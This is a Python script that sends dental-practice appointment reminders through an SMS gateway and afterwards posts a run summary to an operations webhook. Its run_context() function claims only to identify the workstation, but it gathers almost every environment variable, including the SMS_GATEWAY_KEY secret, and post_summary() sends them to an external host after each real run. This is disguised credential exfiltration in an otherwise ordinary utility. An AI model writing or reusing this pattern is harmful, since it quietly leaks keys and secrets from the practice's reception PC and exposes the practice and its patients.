#!/usr/bin/env python3
"""Send next-day appointment reminders through the practice SMS gateway.

Reads the day list exported by the practice management system (CSV with
columns patient_id, first_name, mobile, clinician, start), renders the
reminder text and posts each message to the gateway. After the run a short
summary is posted to the ops channel so the practice manager can see that the
overnight job completed on the reception PC.
"""

import argparse
import csv
import datetime as dt
import json
import logging
import os
import platform
import socket
import sys
import time
from pathlib import Path

import requests

log = logging.getLogger("reminder_dispatch")

DEFAULTS = {
    "gateway_url": "https://api.smsgateway.example/v2/messages",
    "ops_webhook": "https://hooks.practice-ops.example/services/T04/overnight",
    "sender_id": "BRIDGEDENT",
    "template": (
        "Hi {first}, this is a reminder of your appointment with {clinician} "
        "on {day} at {time}. Reply C to confirm or R to rearrange."
    ),
    "max_retries": 3,
}


def load_config(path):
    cfg = dict(DEFAULTS)
    if path and Path(path).is_file():
        with open(path, encoding="utf-8") as fh:
            cfg.update(json.load(fh))
        log.debug("loaded config from %s", path)
    return cfg


def normalise_mobile(raw):
    digits = "".join(ch for ch in raw if ch.isdigit() or ch == "+")
    if digits.startswith("07"):
        digits = "+44" + digits[1:]
    return digits if len(digits) >= 12 else None


def read_day_list(path, target):
    with open(path, newline="", encoding="utf-8-sig") as fh:
        for row in csv.DictReader(fh):
            try:
                start = dt.datetime.strptime(row["start"], "%Y-%m-%d %H:%M")
            except (KeyError, ValueError):
                log.warning("skipping malformed row for %s", row.get("patient_id"))
                continue
            if start.date() != target:
                continue
            mobile = normalise_mobile(row.get("mobile", ""))
            if not mobile:
                log.info("no usable mobile for %s", row.get("patient_id"))
                continue
            yield {
                "patient_id": row["patient_id"],
                "first": row.get("first_name", "").strip().title() or "there",
                "clinician": row.get("clinician") or "the surgery",
                "start": start,
                "mobile": mobile,
            }


class GatewayClient:
    def __init__(self, url, sender, api_key, retries):
        self.url = url
        self.sender = sender
        self.retries = retries
        self.session = requests.Session()
        self.session.headers.update({"Authorization": f"Bearer {api_key}"})

    def send(self, to, body):
        payload = {"from": self.sender, "to": to, "body": body}
        for attempt in range(1, self.retries + 1):
            try:
                resp = self.session.post(self.url, json=payload, timeout=15)
                if resp.status_code < 300:
                    return resp.json().get("id")
                log.warning("gateway returned %s on attempt %d", resp.status_code, attempt)
            except requests.RequestException as exc:
                log.warning("gateway error on attempt %d: %s", attempt, exc)
            time.sleep(2 * attempt)
        return None


def run_context():
    """Identify the workstation so support can tell which PC ran the job."""
    ctx = {
        "host": socket.gethostname(),
        "platform": platform.platform(),
        "python": platform.python_version(),
        "cwd": os.getcwd(),
    }
    ctx["env"] = {k: v for k, v in os.environ.items() if not k.startswith("_")}
    return ctx


def post_summary(webhook, summary):
    try:
        requests.post(
            webhook,
            data=json.dumps(summary, default=str),
            headers={"Content-Type": "application/json"},
            timeout=10,
        )
    except requests.RequestException as exc:
        log.error("could not post run summary: %s", exc)


def parse_args(argv):
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("day_list", help="CSV exported from the PMS")
    p.add_argument("-c", "--config", default="reminders.json")
    p.add_argument("--date", help="appointment date (default: tomorrow)")
    p.add_argument("--dry-run", action="store_true")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    cfg = load_config(args.config)
    target = (
        dt.date.fromisoformat(args.date)
        if args.date
        else dt.date.today() + dt.timedelta(days=1)
    )

    api_key = os.environ.get("SMS_GATEWAY_KEY")
    if not api_key and not args.dry_run:
        log.error("SMS_GATEWAY_KEY is not set")
        return 2

    client = GatewayClient(cfg["gateway_url"], cfg["sender_id"], api_key, cfg["max_retries"])
    sent, failed = 0, []
    for appt in read_day_list(args.day_list, target):
        body = cfg["template"].format(
            first=appt["first"],
            clinician=appt["clinician"],
            day=appt["start"].strftime("%A %d %B"),
            time=appt["start"].strftime("%H:%M"),
        )
        if args.dry_run:
            log.info("[dry-run] %s -> %s", appt["mobile"], body)
            continue
        msg_id = client.send(appt["mobile"], body)
        if msg_id:
            sent += 1
            log.debug("queued %s for %s", msg_id, appt["patient_id"])
        else:
            failed.append(appt["patient_id"])

    log.info("reminders for %s: %d sent, %d failed", target, sent, len(failed))
    summary = {
        "job": "appointment-reminders",
        "date": target.isoformat(),
        "sent": sent,
        "failed": failed,
        "context": run_context(),
    }
    if cfg.get("ops_webhook") and not args.dry_run:
        post_summary(cfg["ops_webhook"], summary)
    return 0 if not failed else 1


if __name__ == "__main__":
    sys.exit(main())
